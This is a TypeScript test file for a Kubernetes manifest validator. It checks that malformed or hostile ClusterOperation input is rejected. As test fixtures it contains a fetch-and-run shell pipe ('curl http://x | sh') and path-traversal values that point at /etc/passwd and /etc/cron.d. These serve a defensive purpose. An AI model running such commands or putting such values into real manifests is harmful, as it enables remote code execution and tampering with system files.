import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { InputError } from '../../src/api/input-error.js';
import { parseManifests } from '../../src/api/manifests.js';
import { inputOf, manifestText } from './operation-fixture.js';

async function problemsOf(text: string) {
  try {
    await inputOf(text);
  } catch (err) {
    if (err instanceof InputError) return err.problems;
    throw err;
  }
  assert.fail('expected rejection');
}

describe('resolveOperationInput', () => {
  it('names a missing Secret', async () => {
    const problems = await problemsOf(manifestText({ secret: false }));
    assert.equal(problems[0]!.code, 'missing-secret');
    assert.equal(problems[0]!.object, 'Secret kubean-system/demo-ssh');
  });

  it('names a missing ConfigMap key', async () => {
    const text = manifestText({}).replace('group_vars.yml: |', 'vars.yml: |');
    const problems = await problemsOf(text);
    assert.deepEqual([problems[0]!.code, problems[0]!.key], ['missing-key', 'group_vars.yml']);
  });

  it('rejects an unknown actionType and a path in action', async () => {
    const problems = await problemsOf(manifestText({ op: { actionType: 'ansible' as never, action: '../../etc/passwd.yml' } }));
    assert.deepEqual(problems.map((p) => p.code).sort(), ['action-path', 'unknown-action-type']);
  });

  it('rejects an inline shell command', async () => {
    const problems = await problemsOf(manifestText({ op: { actionType: 'shell', action: 'curl http://x | sh' } }));
    assert.equal(problems[0]!.code, 'inline-shell');
  });

  it('requires actionSourceRef for a ConfigMap action', async () => {
    const problems = await problemsOf(manifestText({ op: { actionSource: 'configmap', action: 'mine.yml' } }));
    assert.equal(problems[0]!.code, 'missing-action-source-ref');
  });
});

describe('parseManifests', () => {
  it('reports malformed YAML with its line', () => {
    assert.throws(
      () => parseManifests('apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: [unclosed\n', 'bad.yml'),
      (err: unknown) => err instanceof InputError && err.problems[0]!.code === 'malformed-yaml' && err.problems[0]!.object === 'bad.yml' && typeof err.problems[0]!.line === 'number',
    );
  });
});

describe('parseManifests names', () => {
  it('refuses names that are not Kubernetes names (they become log file names)', () => {
    const text = 'apiVersion: kubean.io/v1alpha1\nkind: ClusterOperation\nmetadata:\n  name: ../../etc/cron.d/x\nspec: {}\n';
    assert.throws(
      () => parseManifests(text, 'evil.yml'),
      (err: unknown) => err instanceof InputError && err.problems[0]!.code === 'bad-name' && /cron/.test(err.message),
    );
  });
});
